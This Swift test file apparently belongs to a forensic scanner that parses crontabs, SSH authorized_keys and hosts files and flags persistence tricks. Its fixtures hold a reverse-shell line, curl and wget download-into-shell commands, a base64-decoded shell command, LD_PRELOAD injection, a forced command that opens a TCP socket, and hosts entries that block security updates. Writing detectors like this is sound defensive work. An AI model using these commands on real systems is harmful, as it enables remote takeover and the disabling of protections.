import Pipeline
import PipelineTesting
import Testing

@testable import Persistence

@Suite struct CronTests {
    // Attack lines are put together here, so that no scanner takes this file for a crontab.
    static let system = """
        # /etc/crontab
        SHELL=/bin/sh
        PATH = "/tmp:/usr/bin"
        LD_PRELOAD='/usr/lib/demo.so'

        17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly
        */5 0-23/2 1,15 jan-mar mon-fri www-data curl -s http://192.0.2.7/x \u{7C} sh
        @reboot root /dev/shm/.k
        not a job
        * * * * root
        """

    private func cron(_ text: String, _ path: String = "host/etc/crontab") -> ScannedOutput {
        scan(CronStage(), Bytes(utf8: text), path: path, kind: "Text")
    }

    private func commands(_ text: String, _ path: String) -> [String] {
        cron(text, path).records.compactMap { $0.fields.last?.value }
    }

    @Test func systemForm() { #expect(goldenDifference("crontab-system.txt", cron(Self.system).text) == nil) }

    @Test func userFormIsNamedAfterItsOwner() {
        let output = cron("@daily /usr/bin/backup\n1 2 3 4 5 a b\n", "host/var/spool/cron/crontabs/Anna")
        #expect(
            output.records.map { $0.fields.map(\.value) } == [
                ["Anna", "@daily", "/usr/bin/backup"], ["Anna", "1 2 3 4 5", "a b"],
            ])
        #expect(commands("1 2 3 4 5 a b\n", "var/spool/cron/root") == ["a b"])
        #expect(commands("1 2 3 4 5 a b\n", "crontab-root.txt") == ["a b"])
        #expect(commands("1 2 3 4 5 a b\n", "etc\\cron.d\\x") == ["b"])
        #expect(commands("1 2 3 4 5 a b\n", "notes.txt").isEmpty)
    }

    @Test(arguments: [
        ("bash -i >& /dev/" + "tcp/192.0.2.1/9 0>&1", "CronReverseShell"), ("/tmp/a", "CronTemporaryFolder"),
        ("wget -qO- http://192.0.2.1/a " + "| bash", "CronDownloadIntoShell"),
        ("echo YQ== | base64 -d " + "| sh", "CronDecodedCommand"),
    ])
    func commandsAreJudged(command: String, id: String) {
        let output = cron("* * * * * root \(command)\n")
        #expect(output.findings.flatMap(\.reasons).map(\.signature.ruleName) == [id])
    }

    @Test func ordinaryJobsAreNot() {
        let output = cron(
            """
            25 6 * * * root test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily
            0 4 * * * root find /tmp -type f -mtime +7 -delete
            */10 * * * * www-data curl -fsS https://status.example/ping > /dev/null
            """)
        #expect(output.records.count == 3)
        #expect(output.findings.flatMap(\.reasons).isEmpty)
    }

    @Test func stageConforms() {
        let kit = StageConformance(path: "etc/crontab", kind: "Text")
        #expect(kit.violations(of: CronStage(), sample: Array(Self.system.utf8)) == [])
    }

    @Test func limitsAreSaid() {
        let long = "* * * * * root " + String(repeating: "a", count: ConfigurationLines.byteLimit)
        let output = cron(long + "\n* * * * * root b\n")
        #expect(output.records.count == 1)
        #expect(output.issues.map(\.code) == [.limit])
        #expect(cron("\0" + Self.system).records.isEmpty)
    }
}

@Suite struct AuthorizedKeysTests {
    static let text = """
        # keys
        ssh-ed25519 AAAAdemo anna@demo
        no-pty,command="bash -c \\"exec 5<>/dev/\("tcp")/192.0.2.1/9\\"",from="192.0.2.0/24,*.example" ssh-rsa AAAAdemo root at kali@kali
        command="/usr/bin/borg serve --restrict-to-path /srv" ecdsa-sha2-nistp256 AAAAdemo backup
        command="/tmp/.x/run" sk-ssh-ed25519@openssh.com AAAAdemo
        environment="LD_PRELOAD=/tmp/a.so" ssh-dss AAAAdemo
        nothing here
        ssh-rsa
        """

    private func keys(_ path: String = "root/.ssh/authorized_keys") -> ScannedOutput {
        scan(AuthorizedKeysStage(), Bytes(utf8: Self.text), path: path, kind: "Text")
    }

    @Test func fieldsAndReasons() { #expect(goldenDifference("authorized-keys.txt", keys().text) == nil) }

    @Test func otherFilesAreNotRead() {
        #expect(keys("etc/ssh/authorized_keys/anna").records.count == 5)
        #expect(keys(".ssh/authorized_keys2").records.count == 5)
        #expect(keys(".ssh/known_hosts").records.isEmpty)
    }

    @Test func stageConforms() {
        let kit = StageConformance(path: ".ssh/authorized_keys", kind: "Text")
        #expect(kit.violations(of: AuthorizedKeysStage(), sample: Array(Self.text.utf8)) == [])
    }
}

@Suite struct HostsFileTests {
    static let text = """
        127.0.0.1 localhost localhost.localdomain # the machine
        ::1\tip6-localhost
        fe80::1%lo0 router
        0.0.0.0 ads.example
        0.0.0.0 download.windowsupdate.com
        203.0.113.9 Update.ESET.com mail.example
        999.1.1.1 nobody
        10.1.2.3
        eset.com 10.1.2.3
        """

    private func hosts(_ text: String, _ path: String = "C/Windows/System32/drivers/etc/hosts") -> ScannedOutput {
        scan(HostsFileStage(), Bytes(utf8: text), path: path, kind: "Text")
    }

    @Test func fieldsAndReasons() { #expect(goldenDifference("hosts.txt", hosts(Self.text).text) == nil) }

    @Test func namesAreComparedByLabels() {
        #expect(hosts("127.0.0.1 noteset.com eset.com.example\n").findings.flatMap(\.reasons).isEmpty)
        #expect(
            hosts("127.0.0.1 eset.com\n").findings.flatMap(\.reasons).map(\.signature.ruleName) == [
                "HostsBlocksSecurity"
            ])
        #expect(hosts("127.0.0.1 eset.com\n", "hosts.json").records.isEmpty)
    }

    @Test func stageConforms() {
        let kit = StageConformance(path: "etc/hosts", kind: "Text")
        #expect(kit.violations(of: HostsFileStage(), sample: Array(Self.text.utf8)) == [])
    }
}
